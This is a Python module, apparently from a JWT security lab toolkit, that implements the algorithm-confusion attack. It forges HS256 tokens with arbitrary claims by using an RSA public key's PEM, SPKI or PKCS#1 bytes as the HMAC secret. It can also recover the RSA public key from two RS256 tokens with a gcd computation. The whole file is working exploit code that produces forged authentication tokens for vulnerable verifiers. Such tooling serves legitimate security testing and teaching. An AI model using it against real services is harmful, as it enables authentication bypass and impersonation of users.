"""Algorithm confusion: sign HS256 with the RSA public key, exposed or recovered.

A service that verifies RS256 with a public key, and lets the token's header
pick the algorithm, checks an HS256 token with HMAC(public key bytes). The
public key is public, so anyone can compute that HMAC. ``forge_confusion``
does it from the key as a PEM, a key object, a JWK or a JWKS, trying the byte
strings a confused verifier may hold: the PEM as published, then the
SubjectPublicKeyInfo and PKCS#1 encodings (what jwt_tool and PortSwigger's
sig2n try).

With no key exposed, two RS256 tokens give it away. An RSA signature ``s`` of
the padded hash ``m`` satisfies ``s**e = m (mod n)``, so ``n`` divides both
``s1**e - m1`` and ``s2**e - m2``, and their gcd is ``n`` times a small factor
(PortSwigger's sig2n lab). The numbers have ``e`` times as many bits as the
key (67 million bits for a 1024-bit key), so the gcd takes gmpy2 (GMP) tens of
seconds and CPython's own ``math.gcd`` hours. ``recover_rsa_key`` returns the
modulus as a public key, ready for ``forge_confusion``.
"""

from __future__ import annotations

import hashlib
import hmac
import time
from dataclasses import dataclass
from typing import Any

import gmpy2
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from labkit import keys, tokens
from labkit.algorithms import PrivateKey, PublicKey, describe_key
from labkit.attacks.forgery import Forgery
from labkit.errors import DisallowedAlgorithmError, KeyFormatError, LabkitError

__all__ = [
    "RecoveredKey",
    "RecoveryError",
    "forge_confusion",
    "hmac_secrets",
    "pkcs1_v15_encode",
    "recover_rsa_key",
]

# RFC 8017 section 9.2 note 1: the DER DigestInfo prefix of each hash.
_DIGEST_INFO = {
    "RS256": (hashlib.sha256, bytes.fromhex("3031300d060960864801650304020105000420")),
    "RS384": (hashlib.sha384, bytes.fromhex("3041300d060960864801650304020205000430")),
    "RS512": (hashlib.sha512, bytes.fromhex("3051300d060960864801650304020305000440")),
}
_HMAC_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}
_PEM = serialization.Encoding.PEM
_SMALL_PRIMES_BELOW = 1 << 16  # cofactors of the gcd are tiny; RSA primes are hundreds of bits


class RecoveryError(LabkitError, ValueError):
    """The RSA modulus cannot be recovered from these tokens; the message says why."""


@dataclass(frozen=True)
class RecoveredKey:
    """An RSA public key recovered from two signatures, and what the recovery cost."""

    public_key: rsa.RSAPublicKey
    cofactor: int  # the gcd was n * cofactor; the small primes of the cofactor were divided out
    powers_seconds: float
    gcd_seconds: float

    @property
    def n(self) -> int:
        return self.public_key.public_numbers().n

    @property
    def e(self) -> int:
        return self.public_key.public_numbers().e

    def pem(self, encoding: str = "spki") -> bytes:
        """The key as PEM: ``"spki"`` (BEGIN PUBLIC KEY) or ``"pkcs1"`` (BEGIN RSA PUBLIC KEY)."""
        return _pem(self.public_key, encoding)


def pkcs1_v15_encode(alg: str, signing_input: bytes, size: int) -> int:
    """The integer an RS256/384/512 signature of ``signing_input`` raises to ``e`` (RFC 8017 9.2).

    ``0x00 0x01 FF..FF 0x00 || DigestInfo || hash``, ``size`` bytes long: fully
    determined by the message, which is what makes the recovery possible (PSS
    adds a random salt, so PS256 tokens cannot be used).
    """
    hash_function, prefix = _digest_info(alg)
    digest_info = prefix + hash_function(signing_input).digest()
    padding = size - len(digest_info) - 3
    if padding < 8:
        raise RecoveryError(f"a {size}-byte signature is too short for {alg}")
    return int.from_bytes(b"\x00\x01" + b"\xff" * padding + b"\x00" + digest_info, "big")


def recover_rsa_key(token1: str, token2: str, *, e: int = 65537) -> RecoveredKey:
    """Recover the RSA public key that signed two different RS256/384/512 tokens.

    Computes ``gcd(s1**e - m1, s2**e - m2)`` with gmpy2, divides out small
    primes, and checks that both signatures verify under the result. Takes
    13 s for a 1024-bit key on a quiet 2-core machine and up to about a minute
    (62 s seen) on a busy one, and 30-50 s for a 2048-bit key on one laptop core
    (``bench/recover_rsa.py`` measures it); the seconds are in the result. The
    gcd is one GMP call, so there is no progress to report while it runs.
    """
    if isinstance(e, bool) or not isinstance(e, int) or e < 3 or e % 2 == 0:
        raise RecoveryError(f"e must be an odd integer >= 3, got {e!r}")
    pairs = [_signature_and_message(token) for token in (token1, token2)]
    (s1, m1, size1), (s2, m2, size2) = pairs
    if size1 != size2:
        raise RecoveryError(
            f"the signatures are {size1} and {size2} bytes long: they come from different keys"
        )
    if (s1, m1) == (s2, m2):
        raise RecoveryError("the two tokens are the same; the recovery needs two different ones")
    started = time.perf_counter()
    x1 = gmpy2.mpz(s1) ** e - m1
    x2 = gmpy2.mpz(s2) ** e - m2
    powered = time.perf_counter()
    g = gmpy2.gcd(x1, x2)
    done = time.perf_counter()
    n, cofactor = _strip_small_factors(g)
    fits = 8 * (size1 - 1) < n.bit_length() <= 8 * size1  # a k-byte signature, a k-byte n
    if not fits or any(pow(s, e, n) != m % n for s, m in ((s1, m1), (s2, m2))):
        raise RecoveryError(
            "no RSA modulus found: the tokens were not signed by one RSA key with this e",
            f"the gcd has {g.bit_length()} bits; a key of {8 * size1} bits was expected",
        )
    public_key = rsa.RSAPublicNumbers(e, int(n)).public_key()
    return RecoveredKey(public_key, int(cofactor), powered - started, done - powered)


def hmac_secrets(public_key: Any) -> list[tuple[str, bytes]]:
    """The byte strings a confused verifier may use as its HMAC secret, each with a label.

    PEM text is tried first exactly as given (byte for byte, as it was
    published); then the SubjectPublicKeyInfo PEM and, for RSA, the PKCS#1 PEM
    that ``cryptography`` writes. A JWKS gives the candidates of each of its keys.
    """
    candidates: list[tuple[str, bytes]] = []
    for source, key, published in _public_keys(public_key):
        if published is not None:
            candidates.append(("PEM as published, byte for byte,", published))
        spki = _pem(key, "spki")
        candidates.append((f"SubjectPublicKeyInfo PEM (BEGIN PUBLIC KEY){source}", spki))
        if isinstance(key, rsa.RSAPublicKey):
            pkcs1 = _pem(key, "pkcs1")
            candidates.append((f"PKCS#1 PEM (BEGIN RSA PUBLIC KEY){source}", pkcs1))
    unique: dict[bytes, str] = {}
    for label, secret in candidates:
        unique.setdefault(secret, label)
    return [(label, secret) for secret, label in unique.items()]


def forge_confusion(
    public_key: Any,
    claims: dict[str, Any],
    *,
    alg: str = "HS256",
    header: dict[str, Any] | None = None,
) -> list[Forgery]:
    """HS256 tokens over ``claims``, one per candidate secret from ``hmac_secrets``.

    ``public_key`` is PEM text or bytes, a ``cryptography`` key, a JWK or a JWKS
    dict. ``header`` is a header to imitate (its ``kid``, say); its ``alg``
    is replaced. Send them in turn: the one whose bytes match the verifier's
    copy of the key is accepted.
    """
    if alg not in _HMAC_HASHES:
        raise DisallowedAlgorithmError(f"algorithm confusion signs with HS256/384/512, got {alg!r}")
    if not isinstance(claims, dict):
        raise KeyFormatError(f"claims must be a dict, got {type(claims).__name__}")
    base = {"typ": "JWT"} if header is None else header
    if not isinstance(base, dict):
        raise KeyFormatError(f"a header must be a dict, got {type(base).__name__}")
    head = {"alg": alg, **{name: value for name, value in base.items() if name != "alg"}}
    data = tokens.signing_input(head, claims)
    return [
        Forgery(
            tokens.encode(head, claims, hmac.new(secret, data, _HMAC_HASHES[alg]).digest()),
            f"{alg} with the {label} as the HMAC secret",
        )
        for label, secret in hmac_secrets(public_key)
    ]


# Helpers -----------------------------------------------------------------------------------------


def _signature_and_message(token: str) -> tuple[int, int, int]:
    """(signature, padded message, key size in bytes) of one RS* token."""
    jws = tokens.parse_jws(token)
    alg = jws.header.get("alg")
    _digest_info(alg)  # an RS* token, or a clear error
    size = len(jws.signature)
    if size < 64:
        raise RecoveryError(f"the token's signature is {size} bytes; an RSA signature is 64+")
    return (
        int.from_bytes(jws.signature, "big"),
        pkcs1_v15_encode(alg, jws.signing_input, size),  # type: ignore[arg-type]
        size,
    )


def _digest_info(alg: object) -> tuple[Any, bytes]:
    if not isinstance(alg, str) or alg not in _DIGEST_INFO:
        raise DisallowedAlgorithmError(
            f"key recovery needs RS256/RS384/RS512 tokens, got alg {alg!r}",
            "PS* and ES* signatures are randomized, so their padded message is unknown",
        )
    return _DIGEST_INFO[alg]


def _strip_small_factors(g: Any) -> tuple[Any, Any]:
    """Divide every prime below 2**16 out of ``g``: (what remains, the product divided out)."""
    cofactor = gmpy2.mpz(1)
    p = gmpy2.mpz(2)
    while p < _SMALL_PRIMES_BELOW:
        while g % p == 0:
            g //= p
            cofactor *= p
        p = gmpy2.next_prime(p)
    return g, cofactor


def _public_keys(value: Any) -> list[tuple[str, PublicKey, bytes | None]]:
    """(where it came from, public key, published PEM bytes or None) for each key in ``value``."""
    if isinstance(value, dict) and "keys" in value:
        return [
            (f" of JWK {jwk.get('kid', index)!r}", _public(key), None)
            for index, (jwk, key) in enumerate(keys.from_jwks(value))
        ]
    if isinstance(value, dict):
        return [(" of the JWK", _public(keys.from_jwk(value)), None)]
    if isinstance(value, (str, bytes)):
        published = value.encode("utf-8") if isinstance(value, str) else value
        return [("", _public(keys.load_pem(published)), published)]
    if isinstance(value, (PrivateKey, PublicKey)):
        return [("", _public(value), None)]
    raise KeyFormatError(
        f"cannot read a public key from {describe_key(value)}",
        "pass PEM text, a cryptography key, a JWK or a JWKS dict",
    )


def _public(key: Any) -> PublicKey:
    if isinstance(key, bytes):
        raise KeyFormatError("an HMAC secret is not a public key: there is nothing to confuse")
    return key.public_key() if isinstance(key, PrivateKey) else key


def _pem(key: PublicKey, encoding: str) -> bytes:
    formats = {
        "spki": serialization.PublicFormat.SubjectPublicKeyInfo,
        "pkcs1": serialization.PublicFormat.PKCS1,
    }
    if encoding not in formats:
        raise KeyFormatError(f"encoding must be 'spki' or 'pkcs1', got {encoding!r}")
    return key.public_bytes(_PEM, formats[encoding])
